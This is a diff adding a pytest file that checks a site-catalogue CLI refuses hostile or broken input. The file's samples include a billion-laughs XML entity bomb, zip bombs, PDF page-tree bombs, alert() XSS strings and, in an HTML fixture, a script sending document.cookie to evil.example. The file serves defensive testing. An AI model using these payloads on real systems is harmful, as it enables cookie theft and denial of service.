@@ -1,0 +1,395 @@
+"""Hostile and broken input: a one-line error naming the value, exit 1 or 2, no traceback,
+and the catalogue row for row as it was.
+
+Across modules (readers, importer, the CLI's date options) because the property is the
+same for each: what an attacker or a damaged file sends never reaches the catalogue.
+"""
+
+from __future__ import annotations
+
+import io
+import json
+import os
+import sqlite3
+import subprocess
+import sys
+import zipfile
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+
+from catalog import open_catalog
+from catalog.cli import main
+from catalog.export import export_catalog
+
+ROOT = Path(__file__).resolve().parent.parent
+ODD_DIR = "dossier 'à' \"quoted\" 북한"
+
+
+def run(path, *args):
+    return CliRunner().invoke(main, ["--catalog", str(path), *args])
+
+
+def dump(path) -> list[str]:
+    """Every row of every table, in order: what "unchanged" is compared on."""
+    con = sqlite3.connect(path)
+    try:
+        return list(con.iterdump())
+    finally:
+        con.close()
+
+
+def refused(result, code: int, *names: str) -> str:
+    """The command failed with ``code`` and one line of error naming every one of ``names``."""
+    assert result.exit_code == code, result.output
+    assert result.exception is None or isinstance(result.exception, SystemExit), (
+        f"{type(result.exception).__name__}: {result.exception}")
+    assert "Traceback" not in result.output
+    lines = [line for line in result.stderr.splitlines() if line.startswith("Error")]
+    assert len(lines) == 1, result.stderr
+    for n in names:
+        assert n in lines[0], lines[0]
+    return lines[0]
+
+
+@pytest.fixture
+def before(shipped_path):
+    return dump(shipped_path)
+
+
+# -- encodings --------------------------------------------------------------------------------
+
+def test_non_utf8_report_is_refused(shipped_path, before, tmp_path):
+    p = tmp_path / "latin.txt"
+    p.write_bytes("Trucks at the Sakkanmol base, said the café owner.\n".encode("cp1252"))
+    line = refused(run(shipped_path, "ingest", str(p)), 1, "latin.txt", "0xe9", "--encoding")
+    assert "not UTF-8" in line
+    assert dump(shipped_path) == before
+
+
+def test_mixed_encodings_in_one_report_are_refused(shipped_path, before, tmp_path):
+    p = tmp_path / "mixed.txt"
+    p.write_bytes("Work at the Hoejung-ri base — 회중리.\n".encode()
+                  + "Le café près du site.\n".encode("latin-1"))
+    refused(run(shipped_path, "ingest", str(p)), 1, "mixed.txt", "0xe9")
+    # naming the 8-bit encoding does not help either: the UTF-8 part is then not that
+    r = run(shipped_path, "ingest", str(p), "--encoding", "ascii")
+    refused(r, 1, "mixed.txt", "ascii")
+    assert dump(shipped_path) == before
+
+
+def test_one_bad_file_in_a_directory_stops_the_run_before_any_write(shipped_path, before,
+                                                                     tmp_path):
+    d = tmp_path / "batch"
+    d.mkdir()
+    (d / "a.txt").write_text("Trucks at the Sakkanmol base.\n", encoding="utf-8")
+    (d / "b.txt").write_bytes(b"\xff\xfe\x00garbage")
+    refused(run(shipped_path, "ingest", str(d)), 1, "b.txt")
+    assert dump(shipped_path) == before
+
+
+# -- size ---------------------------------------------------------------------------------------
+
+def test_200_mb_report_is_refused_in_little_memory(shipped_path, before, tmp_path):
+    """A sparse 200 MiB file (cheap to make); the CLI refuses it by its size, reading none."""
+    p = tmp_path / "huge.txt"
+    with open(p, "wb") as f:
+        f.write(b"Trucks at the Sakkanmol base. ")
+        f.truncate(200 * 2**20)
+    env = {**os.environ, "PYTHONPATH": str(ROOT)}
+    # The CLI's own peak, read at exit from VmHWM (rusage would count the forked pytest)
+    code = ("import atexit, runpy, sys\n"
+            "out = sys.argv[1]\n"
+            "def hwm():\n"
+            "    line = [x for x in open('/proc/self/status') if x.startswith('VmHWM')][0]\n"
+            "    open(out, 'w').write(line.split()[1])\n"
+            "atexit.register(hwm)\n"
+            "sys.argv = ['catalog', *sys.argv[2:]]\n"
+            "runpy.run_module('catalog', run_name='__main__')\n")
+    hwm = tmp_path / "hwm.txt"
+    proc = subprocess.run([sys.executable, "-c", code, str(hwm), "--catalog",
+                           str(shipped_path), "ingest", str(p)],
+                          capture_output=True, env=env, timeout=120)
+    returncode, err = proc.returncode, proc.stderr
+    rss_mib = int(hwm.read_text()) / 1024
+    print(f"peak RSS refusing a 200 MiB report: {rss_mib:.0f} MiB")
+    assert returncode == 1, err
+    lines = err.decode().strip().splitlines()
+    assert lines == [f"Error: report {str(p)!r} is 200 MiB, over the 64 MiB a report may "
+                     "have; split it, or give the text of a large PDF (pdftotext)"]
+    assert dump(shipped_path) == before
+    assert rss_mib < 250  # the interpreter and libraries take ~150; reading would add 200
+
+
+def test_report_size_limit_applies_to_the_library(tmp_path, monkeypatch):
+    from catalog import readers
+
+    p = tmp_path / "r.txt"
+    p.write_text("Trucks at the Sakkanmol base.\n" * 10, encoding="utf-8")
+    monkeypatch.setattr(readers, "MAX_REPORT_BYTES", 100)
+    with pytest.raises(readers.ReportError, match="over the 0 MiB"):
+        readers.read_report(p)
+    monkeypatch.setattr(readers, "MAX_REPORT_BYTES", 1000)
+    assert readers.read_report(p).text.startswith("Trucks")
+
+
+# -- PDFs whose page tree lies ------------------------------------------------------------------
+
+def test_pdf_claiming_a_billion_pages_is_read_for_the_page_it_has(shipped_path, tmp_path):
+    from hostile_pdf import lying_count_pdf
+
+    p = tmp_path / "liar.pdf"
+    p.write_bytes(lying_count_pdf(10**9))
+    r = run(shipped_path, "ingest", str(p))
+    assert r.exit_code == 0, r.output
+    assert "1 known site(s)" in r.stderr
+    with open_catalog(shipped_path) as cat:
+        assert [c.quote for c in cat.citations(site_id="kp-sakkanmol") if c.char_start == 0] \
+            == ["Trucks at the Sakkanmol missile operating base."]
+
+
+@pytest.mark.parametrize(("levels", "says"), [
+    (4, "is a PDF of 10000 pages, over the 2000 a report may have"),
+    (9, "Maximum page tree entry limit reached"),  # 10**9 pages: pypdf's own limit
+])
+def test_pdf_page_tree_bomb_is_refused(shipped_path, before, tmp_path, levels, says):
+    from hostile_pdf import page_tree_bomb_pdf
+
+    p = tmp_path / "bomb.pdf"
+    p.write_bytes(page_tree_bomb_pdf(levels))
+    refused(run(shipped_path, "ingest", str(p)), 1, "bomb.pdf", says)
+    assert dump(shipped_path) == before
+
+
+# -- HTML with scripts --------------------------------------------------------------------------
+
+def test_html_scripts_are_dropped_and_quoted_markup_reaches_the_map_escaped(shipped_path,
+                                                                          tmp_path):
+    from catalog.mapping import make_map
+
+    p = tmp_path / "page.html"
+    p.write_text(
+        "<html><head><title>Scripted page</title>"
+        "<script>document.title='The Sinpo shipyard near Hoejung-ri'</script></head><body>"
+        "<script>fetch('https://evil.example/?' + document.cookie)</script>"
+        "<p>Trucks at the Sakkanmol base, a post said: "
+        "&lt;script&gt;alert(1)&lt;/script&gt;.</p>"
+        "<p onclick=\"alert(2)\">Nothing else.</p></body></html>", encoding="utf-8")
+    r = run(shipped_path, "ingest", str(p))
+    assert r.exit_code == 0, r.output
+    with open_catalog(shipped_path) as cat:
+        quotes = [c.quote or "" for c in cat.citations()]
+        assert not any("fetch(" in q or "Sinpo" in q or "alert(2)" in q for q in quotes)
+        mine = [q for q in quotes if "Sakkanmol base, a post said" in q]
+        assert mine == ["Trucks at the Sakkanmol base, a post said: <script>alert(1)</script>."]
+        html = make_map(cat).get_root().render()
+    assert "<script>alert(1)" not in html
+    assert "alert(1)" in html  # it is there, as escaped data
+
+
+# -- imports: zip bombs, entity expansion, broken CSV -------------------------------------------
+
+def _zip(path, name, data=None, size=0):
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
+        if data is not None:
+            z.writestr(name, data)
+        else:
+            with z.open(name, "w") as f:
+                for _ in range(size // 2**20):
+                    f.write(b" " * 2**20)
+
+
+def test_kmz_zip_bomb_is_refused(shipped_path, before, tmp_path):
+    p = tmp_path / "bomb.kmz"
+    _zip(p, "doc.kml", size=64 * 2**20)  # 64 MiB of spaces in ~64 kB
+    assert p.stat().st_size < 200_000
+    refused(run(shipped_path, "import", str(p)), 1, "bomb.kmz", "'doc.kml'", "zip bomb")
+    assert dump(shipped_path) == before
+
+
+def test_kmz_size_limit_is_checked_while_unpacking(tmp_path, monkeypatch):
+    """The limit holds on the bytes unpacked, not on the sizes the directory states."""
+    from catalog import importer
+    from catalog.errors import ValidationError
+
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
+        z.writestr("doc.kml", b"x" * 5000)
+    monkeypatch.setattr(importer, "MAX_UNZIPPED_BYTES", 4000)
+    with zipfile.ZipFile(buf) as z:
+        with pytest.raises(ValidationError, match="unpacks to over 4000 bytes"):
+            importer.read_zip_member(z, "doc.kml")
+
+
+BILLION_LAUGHS = b"""<?xml version="1.0"?>
+<!DOCTYPE kml [
+ <!ENTITY lol "lol">
+ <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+ <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
+ <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+ <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
+ <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
+ <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
+ <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
+ <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
+ <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
+]>
+<kml xmlns="http://www.opengis.net/kml/2.2"><Document><Placemark id="x">
+<name>&lol9;</name></Placemark></Document></kml>
+"""
+
+
+@pytest.mark.parametrize("suffix", [".kml", ".kmz"])
+def test_kml_entity_expansion_is_refused(shipped_path, before, tmp_path, suffix):
+    p = tmp_path / f"laughs{suffix}"
+    if suffix == ".kml":
+        p.write_bytes(BILLION_LAUGHS)
+    else:
+        _zip(p, "doc.kml", BILLION_LAUGHS)
+    refused(run(shipped_path, "import", str(p)), 1, "<!DOCTYPE>", "entity expansion")
+    assert dump(shipped_path) == before
+
+
+@pytest.fixture
+def csv_export(shipped, tmp_path):
+    out = tmp_path / "exp" / "sites.csv"
+    out.parent.mkdir()
+    export_catalog(shipped, out, "csv")
+    return out
+
+
+def _edit_csv(path, column, fn):
+    import csv
+
+    with open(path, encoding="utf-8", newline="") as f:
+        rows = list(csv.DictReader(f))
+    cols = [c for c in rows[0] if fn is not None or c != column]
+    with open(path, "w", encoding="utf-8", newline="") as f:
+        w = csv.DictWriter(f, cols, extrasaction="ignore")
+        w.writeheader()
+        for r in rows:
+            if fn is not None:
+                r[column] = fn(r[column])
+            w.writerow(r)
+
+
+@pytest.mark.parametrize(("file", "column", "fn", "says"), [
+    ("sites.csv", "name", None, "lacks column(s) 'name'"),
+    ("sites.aliases.csv", "alias", None, "lacks column(s) 'alias'"),
+    ("sites.citations.csv", "source_id", None, "lacks column(s) 'source_id'"),
+    ("sites.sources.csv", "title", None, "lacks column(s) 'title'"),
+    ("sites.csv", "lat", lambda v: "north", "not a number: 'north'"),
+    ("sites.csv", "precision_m", lambda v: "wide", "not a number: 'wide'"),
+    ("sites.csv", "status_as_of", lambda v: "2018-13-45", "'2018-13-45'"),
+    ("sites.sources.csv", "published", lambda v: "2018-13-45", "'2018-13-45'"),
+    ("sites.citations.csv", "char_start", lambda v: "first", "'first'"),
+])
+def test_broken_csv_import_is_refused(empty, tmp_path, csv_export, file, column, fn, says):
+    target = csv_export.with_name(file)
+    assert target.is_file(), sorted(p.name for p in csv_export.parent.iterdir())
+    _edit_csv(target, column, fn)
+    path = tmp_path / "empty.gpkg"  # the ``empty`` fixture's file
+    empty.close()
+    before = dump(path)
+    refused(run(path, "import", str(csv_export)), 1, says)
+    assert dump(path) == before
+
+
+# -- dates like 2018-13-45 wherever a date enters --------------------------------------------
+
+@pytest.mark.parametrize("args", [
+    ["ingest", "{report}", "--published", "2018-13-45"],
+    ["add-source", "s-1", "--title", "T", "--published", "2018-13-45"],
+    ["add-source", "s-1", "--title", "T", "--accessed", "2018-13-45"],
+    ["add-site", "s-1", "Name", "--as-of", "2018-13-45"],
+])
+def test_impossible_date_options_are_usage_errors(shipped_path, before, tmp_path, args):
+    report = tmp_path / "r.txt"
+    report.write_text("Trucks at the Sakkanmol base.\n", encoding="utf-8")
+    args = [a.format(report=report) for a in args]
+    refused(run(shipped_path, *args), 2, "'2018-13-45'")
+    assert dump(shipped_path) == before
+
+
+def test_impossible_date_in_a_geojson_import_is_refused(shipped, shipped_path, tmp_path):
+    out = tmp_path / "x.geojson"
+    export_catalog(shipped, out, "geojson")
+    shipped.close()
+    doc = json.loads(out.read_text(encoding="utf-8"))
+    doc["sources"][0]["published"] = "2018-13-45"
+    out.write_text(json.dumps(doc), encoding="utf-8")
+    before = dump(shipped_path)
+    refused(run(shipped_path, "import", str(out)), 1, "'2018-13-45'")
+    assert dump(shipped_path) == before
+
+
+def test_impossible_date_in_a_report_header_is_not_taken(shipped_path, tmp_path):
+    p = tmp_path / "r.txt"
+    p.write_text("Odd Dates Report\n- by A. Writer\n- — 2018-13-45\n"
+                 "Trucks at the Sakkanmol base.\n", encoding="utf-8")
+    assert run(shipped_path, "ingest", str(p)).exit_code == 0
+    with open_catalog(shipped_path) as cat:
+        src = next(s for s in cat.sources() if s.title in ("Odd Dates Report", "r"))
+        assert src.published is None  # never a guessed date
+
+
+# -- path names with spaces, quotes and non-ASCII ----------------------------------------------
+
+@pytest.mark.parametrize("fmt", ["geojson", "csv", "kmz", "gpkg"])
+def test_odd_path_names_through_ingest_export_import(tmp_path, fmt):
+    from catalog.build import DATA_DIR, build_catalog
+
+    d = tmp_path / ODD_DIR
+    d.mkdir()
+    cat_path = d / "catalogue 'ü' \"x\".gpkg"
+    build_catalog(cat_path, DATA_DIR)
+    report = d / "rapport « Sakkanmol » 'v2'.txt"
+    report.write_text("Trucks at the Sakkanmol base.\n", encoding="utf-8")
+    r = run(cat_path, "ingest", str(report))
+    assert r.exit_code == 0, r.output
+    out = d / f"export 'é' \"q\" 북.{fmt}"
+    r = run(cat_path, "export", "-o", str(out))
+    assert r.exit_code == 0, r.output
+    assert out.is_file()
+    other = d / "other ‘x’.gpkg"
+    open_catalog(other, create=True).close()
+    r = run(other, "import", str(out))
+    assert r.exit_code == 0, r.output
+    with open_catalog(cat_path) as a, open_catalog(other) as b:
+        assert {s.site_id for s in a.sites(None)} == {s.site_id for s in b.sites(None)}
+        assert len(a.citations()) == len(b.citations())
+
+
+def test_zip_bomb_as_the_embedded_qgis_project_is_refused(shipped_path, tmp_path):
+    from catalog.errors import ValidationError
+    from catalog.qgis import PROJECT_NAME, read_project_qgs
+
+    bomb = tmp_path / "bomb.qgz"
+    _zip(bomb, "project.qgs", size=64 * 2**20)
+    con = sqlite3.connect(shipped_path)
+    with con:
+        con.execute("UPDATE qgis_projects SET content=? WHERE name=?",
+                    (bomb.read_bytes().hex(), PROJECT_NAME))
+    con.close()
+    with pytest.raises(ValidationError, match="'project.qgs' unpacks to over .* zip bomb"):
+        read_project_qgs(shipped_path)
+
+
+def test_garbage_gpkg_import_is_refused(shipped_path, before, tmp_path):
+    p = tmp_path / "junk.gpkg"
+    p.write_bytes(b"SQLite format 3\x00" + bytes(range(256)) * 8)
+    refused(run(shipped_path, "import", str(p)), 1, "junk.gpkg", "not a readable catalogue")
+    assert dump(shipped_path) == before
+
+
+def test_report_text_length_limit(shipped_path, before, tmp_path, monkeypatch):
+    """What passes the size limit may still hold too much text (an 8 MB text: 590 MB RSS)."""
+    from catalog import readers
+
+    monkeypatch.setattr(readers, "MAX_REPORT_CHARS", 1000)
+    p = tmp_path / "long report.txt"
+    p.write_text("Trucks at the Sakkanmol base.\n" * 40, encoding="utf-8")
+    refused(run(shipped_path, "ingest", str(p)), 1, "long report.txt",
+            "has 1,200 characters of text, over the 1,000 a report may have; split it")
+    assert dump(shipped_path) == before
